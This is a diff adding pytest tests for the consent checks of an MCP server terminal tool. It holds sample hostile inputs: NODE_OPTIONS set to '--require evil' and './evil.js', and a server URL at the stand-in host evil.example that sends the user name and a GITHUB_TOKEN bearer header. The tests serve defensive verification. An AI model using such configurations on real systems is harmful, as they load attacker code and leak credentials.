@@ -1,0 +1,126 @@
+from __future__ import annotations
+
+import json
+import stat
+from pathlib import Path
+
+import pytest
+
+from mcp_tui.config import consent, folders
+from mcp_tui.config.definitions import Definition
+from mcp_tui.config.servers import find
+from tests.config.placing import surroundings
+
+
+class Project:
+    """A folder with one server in a file of its own."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        self.file = folder / ".vscode" / "mcp.json"
+        self.file.parent.mkdir(parents=True)
+
+    def server(self, **fields: object) -> Definition:
+        self.file.write_text(
+            json.dumps({"servers": {"a": fields}, "inputs": [{"id": "key", "type": "promptString"}]})
+        )
+        return find("a", around=surroundings(self.folder / "home", self.folder))
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Project:
+    return Project(tmp_path / "app")
+
+
+def test_a_project_s_server_needs_consent_and_keeps_it(project: Project):
+    server = project.server(command="x")
+    assert consent.is_needed(server)
+    consent.give(server)
+    assert not consent.is_needed(project.server(command="x"))
+    (file,) = folders.consents_folder().iterdir()
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"command": "y"},
+        {"args": ["-c", "rm"]},
+        {"env": {"NODE_OPTIONS": "--require evil"}},
+        {"cwd": "elsewhere"},
+        {"envFile": "other.env"},
+        {"unknown": 1},
+    ],
+    ids=str,
+)
+def test_whatever_changes_in_the_definition_is_asked_again(project: Project, change: dict[str, object]):
+    fields: dict[str, object] = {"command": "x", "args": ["-c", "ls"], "env": {"NODE_OPTIONS": "--test"}}
+    consent.give(project.server(**fields))
+    assert consent.is_needed(project.server(**(fields | change)))
+    assert not consent.is_needed(project.server(**fields))
+
+
+def test_what_an_env_file_holds_is_part_of_what_was_agreed_to(project: Project):
+    env = project.folder / ".env"
+    env.write_text("A=b\n")
+    server = project.server(command="x", envFile="${workspaceFolder}/.env")
+    consent.give(server)
+    assert not consent.is_needed(server)
+    env.write_text("NODE_OPTIONS=--require ./evil.js\n")
+    assert consent.is_needed(server)
+
+
+def test_consent_holds_for_one_file_and_not_for_its_copy(project: Project, tmp_path: Path):
+    consent.give(project.server(command="x"))
+    assert consent.is_needed(Project(tmp_path / "copy").server(command="x"))
+
+
+def test_withdrawn_it_is_needed_again(project: Project):
+    server = project.server(command="x")
+    consent.give(server)
+    assert consent.withdraw(project.server(command="changed"))
+    assert not consent.withdraw(server)
+    assert consent.is_needed(project.server(command="x"))
+
+
+def test_a_consent_that_somebody_emptied_is_none(project: Project):
+    server = project.server(command="x")
+    consent.give(server)
+    (file,) = folders.consents_folder().iterdir()
+    for text in ("", "{}", "[]", "{"):
+        file.write_text(text)
+        assert consent.is_needed(server), text
+
+
+def test_the_account_has_the_whole_command_and_of_variables_the_names_alone(project: Project):
+    long = "x" * 5000
+    server = project.server(
+        command="./run.sh",
+        args=["--key", "${input:key}", long, "two words", "${env:TOKEN}"],
+        env={"SECRET": "hunter2", "OTHER": "${env:HOME}"},
+    )
+    around = surroundings(project.folder / "home", project.folder, {"TOKEN": "t0ken", "HOME": "/h0me"})
+    said = consent.account(server, around)
+    assert said[2:] == [
+        ("command", f"./run.sh --key ${{input:key}} {long} 'two words' ${{env:TOKEN}}"),
+        ("folder", str(project.folder)),
+        ("program", str(project.folder / "run.sh")),
+        ("sets", "SECRET"),
+        ("sets", "OTHER"),
+        ("reads", "TOKEN"),
+        ("reads", "HOME"),
+        ("asks for", "key"),
+    ]
+
+
+def test_the_account_of_a_url_names_its_headers_and_what_would_be_sent_there(project: Project):
+    server = project.server(
+        url="https://evil.example/${env:USER}", headers={"Authorization": "Bearer ${env:GITHUB_TOKEN}"}
+    )
+    assert consent.account(server)[2:] == [
+        ("URL", "https://evil.example/${env:USER}"),
+        ("header", "Authorization"),
+        ("reads", "USER"),
+        ("reads", "GITHUB_TOKEN"),
+    ]
